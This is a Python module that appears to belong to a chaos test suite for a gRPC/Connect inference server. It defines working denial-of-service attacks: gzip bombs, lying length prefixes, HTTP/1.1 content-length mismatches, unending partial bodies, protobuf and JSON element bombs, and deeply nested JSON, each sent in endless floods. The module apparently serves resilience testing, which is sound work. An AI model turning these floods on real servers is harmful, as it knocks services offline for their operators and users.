"""Bodies of requests: compression bombs, lies about lengths, halves, and millions of empty elements."""

import gzip
import itertools
from collections.abc import Sequence
from contextlib import suppress
from functools import cache, partial

from tests.chaos.attack import MIB, Target, attack
from tests.chaos.http2 import (
    CLASSIFY,
    CLASSIFY_STREAM,
    DATA,
    END_STREAM,
    INFER,
    Http2Client,
    call_head,
    frame,
    framed,
    new_streams,
)
from tests.chaos.sending import flood

_CALLS_AT_ONCE = 4
_HALVES_AT_ONCE = 500
_HALF_CONNECTIONS = 50
_JSON, _PROTO = b"application/json", b"application/proto"
_GZIP = (b"grpc-encoding", b"gzip")

# Protobuf: the tag of a field, number << 3 | 2 for fields with a length, then the length.
_EMPTY_IMAGE = b"\x22\x00"  # ClassifyRequest.images
_EMPTY_INPUT = b"\x2a\x00"  # ModelInferRequest.inputs
_EMPTY_PARAMETER = b"\x22\x00"  # ModelInferRequest.parameters, a map


def _varint(value: int) -> bytes:
    encoded = bytearray()
    while value >= 0x80:
        encoded.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*encoded, value])


def field(number: int, value: bytes) -> bytes:
    """A field of protobuf with a length."""
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def model(target: Target) -> bytes:
    """The first field of every request: the name of the model."""
    return field(1, target.model.encode())


def calls(
    target: Target,
    path: bytes,
    body: bytes,
    *fields: tuple[bytes, bytes],
    at_once: int = _CALLS_AT_ONCE,
    end: bool = True,
) -> None:
    """Make the same gRPC call again and again on one connection; open another one if it is closed."""
    head = call_head(target, path, *fields)
    while True:
        with suppress(OSError):
            Http2Client(target).make_calls(head, body, at_once=at_once, end=end)


def _post_head(
    target: Target, length: int, fields: Sequence[bytes] = (), content_type: bytes = _JSON
) -> bytes:
    """The head of an HTTP/1.1 request that claims a body of this length."""
    token = [b"authorization: Bearer " + target.token.encode()] if target.token else []
    lines = [b"POST %s HTTP/1.1" % CLASSIFY, b"host: chaos", b"content-type: " + content_type]
    return b"\r\n".join([*lines, b"content-length: %d" % length, *token, *fields, b"", b""])


def _posts(target: Target, head: bytes, body: bytes) -> None:
    """Send the same HTTP/1.1 request again and again, without waiting for answers."""
    flood(target, lambda: itertools.cycle((head, body)), connections=_CALLS_AT_ONCE)


@cache
def _bomb(size_bytes: int) -> bytes:
    return gzip.compress(bytes(size_bytes), 9)


@attack(
    "gzip-bombs",
    does="streams gRPC messages of 64 KB that inflate to 36 MiB",
    stands_for="CWE-409, data amplification",
    without_token=True,
)
def gzip_bombs(target: Target) -> None:
    """Sixteen messages in a stream; each is a little smaller than the limit."""
    bomb = framed(_bomb(target.message_bytes - 1024), compressed=True)
    calls(target, CLASSIFY_STREAM, bomb * 16, _GZIP)


@attack(
    "gzip-bombs-connect",
    does="sends Connect requests of 64 KB with content-encoding gzip that inflate to 36 MiB",
    stands_for="CWE-409, data amplification",
    is_http1=True,
    without_token=True,
)
def gzip_bombs_connect(target: Target) -> None:
    """One after the other."""
    bomb = _bomb(target.message_bytes - 1024)
    _posts(target, _post_head(target, len(bomb), [b"content-encoding: gzip"]), bomb)


@attack(
    "long-prefixes",
    does="makes calls whose message is shorter than its prefix claims",
    stands_for="CWE-130, length inconsistency",
)
def long_prefixes(target: Target) -> None:
    """END_STREAM in the middle of a message of 16 MiB."""
    body = framed(b"half a message", length=16 * MIB)
    flood(target, partial(new_streams, call_head(target) + frame(DATA, END_STREAM, 1, body)))


@attack(
    "huge-prefixes",
    does="makes calls whose prefix claims 4 GiB",
    stands_for="CWE-789, allocation by a claimed size",
)
def huge_prefixes(target: Target) -> None:
    """The stream stays open."""
    body = framed(b"the beginning", length=2**32 - 1)
    flood(target, partial(new_streams, call_head(target) + frame(DATA, 0, 1, body)))


@attack(
    "content-lengths",
    does="makes calls with more bytes than content-length says",
    stands_for="RFC 9113, section 8.1.1",
)
def content_lengths(target: Target) -> None:
    """The server resets each stream: another way to make it do so."""
    head = call_head(target, CLASSIFY, (b"content-length", b"3"))
    flood(target, partial(new_streams, head + frame(DATA, END_STREAM, 1, framed(b"a message"))))


@attack(
    "content-lengths-http1",
    does="sends HTTP/1.1 bodies that are longer than content-length says",
    stands_for="CWE-444, request smuggling",
    is_http1=True,
)
def content_lengths_http1(target: Target) -> None:
    """The rest of each body is read as the next request, and makes no sense."""
    _posts(target, _post_head(target, 2), b"{}" + b"\0" * 1000)


@attack(
    "half-messages",
    does="sends 500 bodies at once over HTTP/2 that never end",
    stands_for="CWE-770, memory exhaustion",
    without_token=True,
)
def half_messages(target: Target) -> None:
    """Each claims 35 MiB, and gets what the windows allow."""
    body = framed(bytes(target.message_bytes - 2 * MIB), length=target.message_bytes - MIB)
    calls(target, CLASSIFY, body, at_once=_HALVES_AT_ONCE, end=False)


@attack(
    "half-messages-http1",
    does="sends bodies of 35 MiB on 50 connections that never end",
    stands_for="CWE-770, memory exhaustion",
    is_http1=True,
    without_token=True,
)
def half_messages_http1(target: Target) -> None:
    """A MiB on each connection in turn; one that is full is never finished."""
    size_mib = target.message_bytes // MIB - 1
    chunks = [_post_head(target, size_mib * MIB), *[b" " * MIB] * (size_mib - 1), b""]
    flood(target, lambda: iter(chunks), connections=_HALF_CONNECTIONS)


@attack(
    "empty-images",
    does="sends Classify requests of 16 MiB with 8 million empty images",
    stands_for="CWE-770, element bomb in protobuf",
    without_token=True,
)
def empty_images(target: Target) -> None:
    """Two bytes on the wire become an object of 100."""
    calls(target, CLASSIFY, framed(model(target) + _EMPTY_IMAGE * (target.body_bytes // 2)))


@attack(
    "empty-tensors",
    does="sends ModelInfer requests of 16 MiB with 8 million empty inputs",
    stands_for="CWE-770, element bomb in protobuf",
)
def empty_tensors(target: Target) -> None:
    """Where the number of inputs is always one."""
    calls(target, INFER, framed(model(target) + _EMPTY_INPUT * (target.body_bytes // 2)))


@attack(
    "empty-parameters",
    does="sends ModelInfer requests of 16 MiB with 8 million empty parameters",
    stands_for="CWE-770, element bomb in protobuf",
)
def empty_parameters(target: Target) -> None:
    """A map, whose entries all have the same key."""
    calls(target, INFER, framed(model(target) + _EMPTY_PARAMETER * (target.body_bytes // 2)))


@attack(
    "empty-byte-elements",
    does="sends ModelInfer requests of 16 MiB with a BYTES tensor of 4 million empty elements",
    stands_for="CWE-770, element bomb in BYTES",
    without_token=True,
)
def empty_byte_elements(target: Target) -> None:
    """Each element is a length of 0 in four bytes."""
    shape = (
        _varint(3 << 3 | 2) + _varint(len(_varint(target.body_bytes // 4))) + _varint(target.body_bytes // 4)
    )
    tensor = field(5, field(1, b"image") + field(2, b"BYTES") + shape)
    raw = field(7, bytes(target.body_bytes))
    calls(target, INFER, framed(model(target) + tensor + raw))


@attack(
    "empty-json-images",
    does="sends Connect requests of 16 MiB of JSON with 5 million empty images",
    stands_for="CWE-770, element bomb in JSON",
    is_http1=True,
    without_token=True,
)
def empty_json_images(target: Target) -> None:
    """Three bytes each."""
    images = b",".join([b"{}"] * (target.body_bytes // 3))
    body = b'{"model":"%s","images":[%s]}' % (target.model.encode(), images)
    _posts(target, _post_head(target, len(body)), body)


@attack(
    "deep-json",
    does="sends Connect requests of 16 MiB of JSON arrays in arrays",
    stands_for="CWE-674, uncontrolled recursion",
    is_http1=True,
)
def deep_json(target: Target) -> None:
    """Eight million levels."""
    body = b'{"images":' + b"[" * (target.body_bytes // 2) + b"]" * (target.body_bytes // 2) + b"}"
    _posts(target, _post_head(target, len(body)), body)


@attack(
    "long-json-texts",
    does="sends Connect requests of 4 MB of JSON whose model has a name of as many characters",
    stands_for="CWE-400, work of a parser",
    is_http1=True,
)
def long_json_texts(target: Target) -> None:
    """The largest request that is parsed: a quarter of the others."""
    body = b'{"model":"%s"}' % (b"a" * (target.body_bytes // 4 - 50))
    _posts(target, _post_head(target, len(body)), body)


@attack(
    "large-json-images",
    does="sends Connect requests of 4 MB of JSON with one image that cannot be decoded",
    stands_for="CWE-400, work of a parser",
    is_http1=True,
)
def large_json_images(target: Target) -> None:
    """Valid base64."""
    body = b'{"images":[{"encoded":"%s"}]}' % (b"A" * (target.body_bytes // 4 // 4 * 4 - 64))
    _posts(target, _post_head(target, len(body)), body)


@attack(
    "empty-connect-images",
    does="sends Connect requests of 16 MiB of protobuf with 8 million empty images",
    stands_for="CWE-770, element bomb in protobuf",
    is_http1=True,
)
def empty_connect_images(target: Target) -> None:
    """The same message as over gRPC, on another wire."""
    body = model(target) + _EMPTY_IMAGE * (target.body_bytes // 2)
    _posts(target, _post_head(target, len(body), content_type=_PROTO), body)
